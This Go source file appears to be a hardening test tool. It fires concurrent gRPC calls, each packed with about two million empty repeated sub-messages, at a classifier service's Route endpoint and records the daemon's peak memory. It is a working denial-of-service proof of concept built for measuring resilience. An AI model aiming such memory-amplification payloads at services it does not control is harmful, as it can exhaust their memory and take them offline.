// Command gvals10a sends native gRPC Routes (--listen) whose message is
// just under 4 MiB of empty repeated messages (2 bytes each, about 2
// million), -conc at once, with -token, and prints each status and the
// daemon's RSS (-pid) before and at its peak: the tenth hostile pass's
// value amplification, on the gRPC listener.
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"strconv"
	"strings"
	"sync"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/metadata"
)

type rawCodec struct{}

func (rawCodec) Marshal(v any) ([]byte, error) { return *(v.(*[]byte)), nil }
func (rawCodec) Unmarshal(b []byte, v any) error {
	*(v.(*[]byte)) = append([]byte(nil), b...)
	return nil
}
func (rawCodec) Name() string { return "proto" }

func rss(pid int) (cur int) {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	for _, l := range strings.Split(string(b), "\n") {
		if f := strings.Fields(l); len(f) > 1 && f[0] == "VmRSS:" {
			cur, _ = strconv.Atoi(f[1])
		}
	}
	return cur >> 10
}

func main() {
	addr := flag.String("addr", "", "gRPC listener")
	token := flag.String("token", "", "bearer token")
	pid := flag.Int("pid", 0, "daemon pid")
	conc := flag.Int("conc", 3, "calls at once")
	flag.Parse()
	msg := []byte("\x0a\x01x")
	for len(msg) < 4<<20-64 {
		msg = append(msg, 0x12, 0x00)
	}
	conn, err := grpc.NewClient(*addr, grpc.WithTransportCredentials(insecure.NewCredentials()),
		grpc.WithDefaultCallOptions(grpc.ForceCodec(rawCodec{}), grpc.MaxCallSendMsgSize(8<<20)))
	if err != nil {
		panic(err)
	}
	before, peak := rss(*pid), 0
	stop := make(chan struct{})
	go func() {
		for {
			select {
			case <-stop:
				return
			case <-time.After(20 * time.Millisecond):
				peak = max(peak, rss(*pid))
			}
		}
	}()
	var wg sync.WaitGroup
	for i := 0; i < *conc; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			ctx := metadata.AppendToOutgoingContext(context.Background(), "authorization", "Bearer "+*token)
			var out []byte
			in := msg
			err := conn.Invoke(ctx, "/classifier.v1.ClassifierService/Route", &in, &out)
			fmt.Printf("%.160v\n", err)
		}()
	}
	wg.Wait()
	close(stop)
	fmt.Printf("%d calls of %d empty messages: RSS %d MB before, peak %d MB\n", *conc, (len(msg)-3)/2, before, peak)
}
